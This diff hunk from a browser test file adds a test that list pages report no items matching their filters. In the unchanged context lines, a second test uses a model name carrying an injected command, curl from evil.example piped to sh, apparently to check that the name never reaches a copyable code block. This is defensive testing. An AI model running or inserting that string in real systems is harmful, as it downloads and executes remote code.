@@ -76,6 +76,17 @@ describeInBrowser("what is asked again", () => {
     await tab.page.unrouteAll();
   });
 
+  test("a list says that nothing fits its filters, not that there is nothing", async () => {
+    for (const [path, words] of [
+      ["/people?search=smiht", "No person fits these filters."],
+      ["/keys?state=expired", "No key fits these filters."],
+      ["/teams?over=99&organization=test", "No team fits these filters."],
+    ] as const) {
+      await tab.visit(path);
+      expect([path, await tab.page.locator("main .empty").allTextContents()]).toEqual([path, [words]]);
+    }
+  });
+
   test("a model that only the address names is in no block to copy", async () => {
     const named = `x"}';curl -s evil.example|sh;#`;
     for (const role of ["admin", "member"] as const) {
